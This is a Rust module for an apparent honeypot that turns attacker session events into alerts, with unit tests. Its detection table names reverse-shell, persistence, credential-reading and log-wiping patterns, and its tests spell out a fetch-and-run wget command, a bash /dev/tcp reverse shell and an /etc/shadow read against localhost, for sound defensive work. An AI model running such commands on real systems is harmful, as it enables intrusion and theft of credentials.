//! Which attacks deserve an alert, and what it says. The shape is Cyber Mirage's.

use crate::server;
use serde_json::{Map, Value, json};

/// What a grave command contains, and the alert that it raises. The first that fits holds.
struct Grave {
    contains: &'static [&'static str],
    alert_type: &'static str,
    severity: &'static str,
    title: &'static str,
}

const fn grave(
    alert_type: &'static str,
    severity: &'static str,
    title: &'static str,
    contains: &'static [&'static str],
) -> Grave {
    Grave { contains, alert_type, severity, title }
}

const GRAVE: &[Grave] = &[
    grave("reverse_shell", "critical", "Reverse shell", &["/dev/tcp/", "/dev/udp/", "nc -e"]),
    grave("persistence", "critical", "SSH key planted", &[">> ~/.ssh/authorized_keys", "> ~/.ssh/authorized_keys"]),
    grave("persistence", "critical", "Scheduled task planted", &["| crontab", "/etc/cron"]),
    grave("persistence", "critical", "Account created", &["useradd ", "adduser "]),
    grave("credential_access", "critical", "Password hashes read", &["/etc/shadow"]),
    grave("log_tampering", "high", "Logs destroyed", &["rm -rf /var/log", "> /var/log/"]),
];

/// Programs whose only use on a honeypot is to bring tools in.
const DOWNLOADERS: &[&str] = &["wget ", "curl ", "tftp ", "ftpget "];

/// Descriptions quote the attacker, who may send kilobytes.
const QUOTED_CHARACTERS_MAX: usize = 160;

/// One alert, ready to be sent.
#[derive(Debug, PartialEq)]
pub struct Alert {
    pub payload: Value,
    pub priority: u8,
    pub attacker_ip: String,
}

/// The alert that an attack event raises; `None` when it is not grave.
///
/// # Errors
///
/// The reason why the payload is not an attack event.
///
/// # Panics
///
/// In version 1 only, where `server::named_in` does.
pub fn for_attack(payload: &str, entry_timestamp: &str) -> Result<Option<Alert>, String> {
    let value: Value =
        serde_json::from_str(payload).map_err(|error| format!("the payload cannot be read as JSON: {error}"))?;
    let attack = value.as_object().ok_or("the payload is not a JSON object")?;
    let action = text(attack, "action").ok_or("the attack has no action that is a text")?;
    let attacker_ip = text(attack, "attacker_ip").unwrap_or("unknown");
    let none = Map::new();
    let details = attack.get("details").and_then(Value::as_object).unwrap_or(&none);

    let Some((alert_type, severity, title)) = judge(action, details) else {
        return Ok(None);
    };
    let subject = ["input", "url", "destfile", "filename", "username"].iter().find_map(|name| text(details, name));
    let quoted: String = subject.unwrap_or_default().chars().take(QUOTED_CHARACTERS_MAX).collect();
    let payload = json!({
        "event_type": "alert",
        "alert_type": alert_type,
        "severity": severity,
        "title": format!("{title} by {attacker_ip}"),
        "description": format!("{action}: {quoted}"),
        "source": text(attack, "sensor").unwrap_or("unknown"),
        "session_id": text(attack, "session_id").unwrap_or("unknown"),
        "timestamp": text(attack, "timestamp").unwrap_or(entry_timestamp),
    });
    // As Cyber Mirage's own publisher does.
    let priority = if severity == "critical" { 4 } else { 3 };
    Ok(Some(Alert { payload, priority, attacker_ip: attacker_ip.to_string() }))
}

/// Type, severity and title of the alert that an attack deserves.
fn judge(action: &str, details: &Map<String, Value>) -> Option<(&'static str, &'static str, String)> {
    match action {
        "command" => of_command(text(details, "input")?),
        "file_download" | "file_upload" => Some(("malware", "high", "File captured".to_string())),
        "password_change" => Some(("persistence", "critical", "Password changed".to_string())),
        _ => None,
    }
}

fn of_command(command: &str) -> Option<(&'static str, &'static str, String)> {
    let is_in_command = |part: &&str| command.contains(*part);
    if let Some(grave) = GRAVE.iter().find(|grave| grave.contains.iter().any(is_in_command)) {
        return Some((grave.alert_type, grave.severity, grave.title.to_string()));
    }
    if !DOWNLOADERS.iter().any(is_in_command) {
        return None;
    }
    let server = server::named_in(command).unwrap_or("an unnamed server");
    Some(("malware", "high", format!("Download from {server}")))
}

fn text<'a>(object: &'a Map<String, Value>, name: &str) -> Option<&'a str> {
    object.get(name).and_then(Value::as_str)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn alert(action: &str, details: Value) -> Option<Alert> {
        let payload = json!({
            "event_type": "attack", "attacker_ip": "127.10.5.23", "service": "SSH", "action": action,
            "session_id": "8726a0ab7e32", "sensor": "lab-sensor-01", "timestamp": "2026-11-23T07:27:27.979798Z",
            "details": details,
        });
        for_attack(&payload.to_string(), "").unwrap()
    }

    #[test]
    fn a_download_raises_an_alert() {
        let alert = alert("command", json!({"input": "busybox wget -q http://127.0.0.1:8099/m -O /tmp/m; sh /tmp/m"}));
        let alert = alert.unwrap();
        assert_eq!(alert.priority, 3);
        assert_eq!(
            alert.payload,
            json!({
                "event_type": "alert", "alert_type": "malware", "severity": "high",
                "title": "Download from 127.0.0.1:8099 by 127.10.5.23",
                "description": "command: busybox wget -q http://127.0.0.1:8099/m -O /tmp/m; sh /tmp/m",
                "source": "lab-sensor-01", "session_id": "8726a0ab7e32", "timestamp": "2026-11-23T07:27:27.979798Z"
            })
        );
    }

    #[test]
    fn grave_commands_raise_critical_alerts() {
        let alert = alert("command", json!({"input": "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"})).unwrap();
        assert_eq!(alert.payload["title"], "Reverse shell by 127.10.5.23");
        assert_eq!(alert.priority, 4);
    }

    #[test]
    fn everyday_attacks_raise_none() {
        for (action, details) in [
            ("command", json!({"input": "uname -a"})),
            ("command", json!({"input": ""})),
            ("command", json!({"input": null})),
            ("command", json!([])),
            ("login_failed", json!({"username": "root"})),
        ] {
            assert_eq!(alert(action, details), None);
        }
    }

    #[test]
    fn long_text_of_any_script_is_cut_between_characters() {
        let input = format!("cat /etc/shadow {}", "🦀".repeat(5_000));
        let alert = alert("command", json!({"input": input})).unwrap();
        assert!(alert.payload["description"].as_str().unwrap().chars().count() < 200);
    }

    #[cfg(not(feature = "v1"))]
    #[test]
    fn the_second_version_handles_what_the_first_crashed_on() {
        let alert = alert("command", json!({"input": "tftp -g -r arm7 127.0.0.1"})).unwrap();
        assert_eq!(alert.payload["title"], "Download from 127.0.0.1 by 127.10.5.23");
    }

    #[test]
    fn what_is_no_attack_is_rejected_with_its_reason() {
        let deep = format!("{{\"details\":{}", "[".repeat(10_000));
        for (payload, reason) in [
            ("", "cannot be read"),
            (deep.as_str(), "recursion limit"),
            ("[]", "not a JSON object"),
            ("{}", "no action"),
        ] {
            let rejected = for_attack(payload, "").unwrap_err();
            assert!(rejected.contains(reason), "{rejected}");
        }
    }
}
